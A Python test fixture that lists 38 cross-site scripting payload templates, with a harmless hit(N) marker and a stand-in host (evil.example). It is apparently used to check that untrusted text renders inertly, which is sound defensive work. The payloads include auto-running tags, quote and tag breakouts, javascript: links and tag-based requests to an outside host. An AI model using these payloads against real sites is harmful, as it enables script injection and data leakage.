"""Thirty-eight texts that would run, load or lead away if a page took them for more than text.

`hit(N)` is what a browser test listens for; `https://evil.example/` is where nothing may be asked.
"""

from __future__ import annotations

_TEMPLATES = (
    # elements that run by themselves
    "<svg onload=HIT>",
    "<script>HIT</script>",
    "<img src=x onerror=HIT>",
    "<body onload=HIT>",
    "<svg><script>HIT</script></svg>",
    "<details open ontoggle=HIT>",
    "<input autofocus onfocus=HIT>",
    "<audio src=x onerror=HIT>",
    "<video><source onerror=HIT></video>",
    '<iframe srcdoc="<script>parent.HIT</script>"></iframe>',
    '<iframe src="javascript:parent.HIT"></iframe>',
    "<div x-data x-init='HIT'>{{ HIT }}</div>",
    # out of the place they were put in
    '"><svg onload=HIT>',
    "'><svg onload=HIT>",
    '"><script>HIT</script>',
    "</script><script>HIT</script>",
    "</title><img src=x onerror=HIT>",
    "</textarea><img src=x onerror=HIT>",
    "</style><img src=x onerror=HIT>",
    "--><img src=x onerror=HIT>",
    "]]><img src=x onerror=HIT>",
    '" autofocus onfocus=HIT x="',
    "' autofocus onfocus=HIT x='",
    '";HIT//',
    "';HIT//",
    "${HIT}",
    # parsers that disagree
    '<noscript><p title="</noscript><img src=x onerror=HIT>">',
    "<svg><style><img src=x onerror=HIT></style></svg>",
    # links
    '<a href="javascript:HIT">a</a>',
    "[a](javascript:HIT)",
    "<javascript:HIT>",
    '<form action="javascript:HIT"><button>a</button></form>',
    # no script, yet out of the house
    "![a](https://evil.example/N)",
    "<img src=https://evil.example/N>",
    "<link rel=stylesheet href=https://evil.example/N>",
    "<style>@import 'https://evil.example/N';</style>",
    '<meta http-equiv=refresh content="0;url=https://evil.example/N">',
    "<object data=https://evil.example/N></object>",
)
PAYLOADS = tuple(
    text.replace("HIT", f"hit({number})").replace("/N", f"/{number}")
    for number, text in enumerate(_TEMPLATES, 1)
)
#: All of them in one value. What closes something stands first, so that none hides in another's quotes.
PACKED = "\n".join(sorted(PAYLOADS, key=lambda p: p[0] not in "\"'-]" and p[1] != "/"))
